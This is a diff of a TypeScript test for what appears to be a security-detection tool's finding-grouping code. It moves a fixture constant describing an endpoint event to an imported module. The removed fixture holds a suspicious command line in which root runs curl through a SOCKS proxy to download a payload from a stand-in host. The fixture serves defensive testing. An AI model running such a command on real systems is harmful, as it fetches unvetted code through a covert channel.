@@ -3,20 +3,11 @@ import { describe, it } from 'node:test';
 import { bucketStart, eventRefKey, findingId, groupValues, parseEventRefKey, type GroupValues } from '../../../src/aggregate/group.js';
 import { groupFields } from '../../../src/normalize/fields.js';
 import { RULE_METADATA } from '../../../src/rule/metadata.js';
+import { DEFEND_GROUP } from '../sink/finding-inputs.js';
 
 const HOUR = 3_600_000;
 const BUCKET = Date.UTC(2026, 10, 1, 10);
 
-/** The group of the Elastic Defend fixture (test/fixtures/ecs/defend-exec.json). */
-const DEFEND_GROUP: GroupValues = {
-  dest: 'web-01',
-  user: 'root',
-  parent_process_name: 'bash',
-  process_name: 'curl',
-  process: 'curl -x socks5h://10.0.0.5:1080 https://example.com/payload',
-  process_id: '4242',
-  parent_process_id: '2201',
-};
 
 describe('groupValues picks the analytic\'s by-fields', () => {
   it('copies every by-field that has a value', () => {
